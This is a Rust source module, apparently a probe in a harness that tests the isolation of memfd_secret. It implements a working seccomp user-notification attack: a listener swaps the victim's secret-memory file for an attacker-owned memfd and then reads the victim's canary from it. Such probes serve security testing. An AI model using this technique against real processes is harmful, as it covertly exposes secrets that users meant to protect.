//! Who starts a program may have its system calls answered by another process: a filter whose notifications go to a
//! listener (`seccomp_unotify(2)`). No tracing is needed, and none is to be seen.
//!
//! The attack: the victim asks for secret memory, and the listener hands it an ordinary file of the attacker's instead.

use std::io;
use std::os::fd::{AsRawFd as _, OwnedFd};

use rustix::fs::{MemfdFlags, memfd_create};

use crate::kernel::{Mapping, Side, adopt, fork, leave};
use crate::victim::{PAGE, SYS_MEMFD_SECRET};
use crate::{Attempt, Outcome, Probe, Stage, call, flat, found};

pub(crate) const PROBES: &[Probe] = &[Probe::new(
    "handshake/seccomp-listener",
    "ptrace",
    "start the victim under a filter, and answer its memfd_secret with a file of one's own",
    |stage| flat(supervised(stage)),
)];

fn supervised(stage: &Stage) -> Attempt {
    let file = memfd_create("not-secret", MemfdFlags::CLOEXEC).map_err(io::Error::from)?;
    let listener = filter().map_err(io::Error::from)?;
    if let Side::Child = fork()? {
        // Until the group is killed; or there is nothing more to be heard.
        while answer(&listener, &file).is_ok() {}
        leave(0)
    }
    drop(listener);
    let mut victim = stage.fresh()?;
    stage.settle(&mut victim)?;
    let Some(secret) = &victim.held().secret else {
        return Ok(Outcome::impossible("this kernel has no memfd_secret"));
    };
    let mapping = Mapping::readable(&file, PAGE);
    Ok(mapping.map_or_else(
        |error| Outcome::nothing(format!("the file is empty: {error}")),
        |mapping| found(&mapping.copy(), &secret.canary, "that it thought was in secret memory"),
    ))
}

/// On ourselves and whoever we start: notify of `memfd_secret`, allow all else. `struct sock_filter`: code, two jumps, value.
fn filter() -> Result<OwnedFd, rustix::io::Errno> {
    const SET_MODE_FILTER: i32 = 1;
    const NEW_LISTENER: i32 = 1 << 3;
    let step = |code: u16, yes: u8, no: u8, value: u32| {
        [&code.to_ne_bytes()[..], &[yes, no], &value.to_ne_bytes()].concat()
    };
    let number = u32::try_from(SYS_MEMFD_SECRET).unwrap_or(u32::MAX);
    let steps = [
        step(0x20, 0, 0, 0),
        step(0x15, 0, 1, number),
        step(0x06, 0, 0, libc::SECCOMP_RET_USER_NOTIF),
        step(0x06, 0, 0, libc::SECCOMP_RET_ALLOW),
    ];
    let count = steps.len();
    let steps = steps.concat();
    let program = [count.to_ne_bytes(), steps.as_ptr().expose_provenance().to_ne_bytes()].concat();
    adopt(call!(libc::SYS_seccomp, SET_MODE_FILTER, NEW_LISTENER, &program[..])?)
}

/// `struct seccomp_notif` has 80 bytes, its number at 0; `struct seccomp_notif_addfd`: number, flags, ours, theirs, flags.
fn answer(listener: &OwnedFd, file: &OwnedFd) -> Result<(), rustix::io::Errno> {
    const RECEIVE: u32 = 0xc050_2100;
    const ADD: u32 = 0x4018_2103;
    const AND_SEND: u32 = 1 << 1;
    let mut heard = [0; 80];
    call!(libc::SYS_ioctl, listener, RECEIVE, &mut heard[..])?;
    let number = heard.first_chunk::<8>().copied().unwrap_or_default();
    let ours = u32::try_from(file.as_raw_fd()).unwrap_or(u32::MAX);
    let words = [AND_SEND, ours, 0, 0].map(u32::to_ne_bytes).concat();
    let said = [&number[..], &words].concat();
    call!(libc::SYS_ioctl, listener, ADD, &said[..])?;
    Ok(())
}
